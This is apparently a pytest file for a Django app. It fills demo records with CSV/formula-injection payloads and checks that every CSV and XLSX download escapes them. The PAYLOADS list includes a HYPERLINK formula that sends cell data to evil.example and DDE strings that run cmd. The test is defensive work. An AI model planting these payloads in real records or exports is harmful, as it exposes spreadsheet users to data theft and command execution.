"""Every download the product offers (the lists' CSV and XLSX, the dashboards' tables, the open
data files, the import templates) on the demo with text that spreadsheets would run as a
formula typed into the records it shows: no CSV cell starts a formula, no XLSX cell is one."""

import csv
import io
import re

import openpyxl
import pytest
from django.utils import timezone

from counterpart.accounts.services import system_actor
from counterpart.core.spreadsheets import FORMULA_START, MARK
from counterpart.demo.places import DEMO_PASSWORD
from counterpart.exchanges.models import ExchangeEvent
from counterpart.funding import services as funding
from counterpart.funding.models import Transaction
from counterpart.interchange import services as interchange
from counterpart.places.models import Organization
from counterpart.projects.models import Project
from counterpart.talent.models import Post, Professional
from tests import walk
from tests.walk import NOT_WALKED, pages

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Open report")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]
DOWNLOAD = re.compile(r'href="([^"]*(?:[?&](?:amp;)?(?:export|download|format)=)[^"]*)"')
NUMBER = re.compile(r"-?\d[\d,]*(\.\d+)?")


def hostile_records():
    """The payloads as names, titles and descriptions people typed (raw writes: what a form
    would have accepted, put where every export shows it)."""
    first, second, third, fourth, fifth = PAYLOADS
    Organization.objects.filter(code="beijing").update(name_en=first, name_zh=second)
    Project.objects.filter(pk=Project.objects.order_by("pk").first().pk).update(title_en=third)
    Post.objects.filter(pk=Post.objects.order_by("pk").first().pk).update(title_en=fourth)
    Professional.objects.filter(pk=Professional.objects.order_by("pk").first().pk).update(
        name=fifth
    )
    ExchangeEvent.objects.filter(pk=ExchangeEvent.objects.order_by("pk").first().pk).update(
        title_en=first
    )
    entry = Transaction.objects.filter(kind="2").order_by("pk").first()
    funding.transaction_record(
        actor=system_actor(),
        kind="2",
        pairing=entry.pairing,
        project=entry.project,
        amount_minor=100,
        currency="CNY",
        value_date=timezone.localdate(),
        description=first,
    )
    interchange.open_data_publish(actor=None)


def formulas_in(response) -> list[str]:
    data = b"".join(response.streaming_content) if response.streaming else response.content
    kind = response.get("Content-Type", "")
    if "spreadsheetml" in kind:
        book = openpyxl.load_workbook(io.BytesIO(data))
        return [
            f"{sheet.title}!{cell.coordinate}: {cell.value}"
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "f"
        ]
    if "csv" in kind:
        cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
        return [
            cell for cell in cells if cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)
        ]
    return []


@walk.SHOWN_THE_SAME_ON_EVERY_DATABASE
@pytest.mark.django_db
def test_no_download_carries_a_formula(client, demo):
    hostile_records()
    client.login(username="office", password=DEMO_PASSWORD)
    downloads = set()
    for name, route in pages():
        if "<" in route or name in NOT_WALKED:
            continue
        page = client.get(route)
        if page.status_code == 200 and "html" in page.get("Content-Type", ""):
            for link in DOWNLOAD.findall(page.content.decode()):
                link = link.replace("&amp;", "&")
                downloads.add(link if link.startswith("/") else route + link)
    downloads |= {f"/open-data/files/{n}" for n in ("projects.csv", "projects.xlsx")}
    downloads |= {f"/open-data/files/{n}" for n in ("ledger-totals.csv", "results.xlsx")}
    found, opened = {}, 0
    for address in sorted(downloads):
        response = client.get(address)
        if response.status_code != 200:
            continue
        opened += 1
        if formulas := formulas_in(response):
            found[address] = formulas[:3]
    assert opened > 30  # the walk found the lists', tables' and templates' downloads
    assert found == {}
    marked = [p for p in PAYLOADS if p.startswith(FORMULA_START)]
    ledger = client.get("/funding/?export=csv")
    body = b"".join(ledger.streaming_content).decode("utf-8-sig")
    cells = {cell for row in csv.reader(io.StringIO(body)) for cell in row}
    assert MARK + marked[0] in cells  # written, as text, not dropped
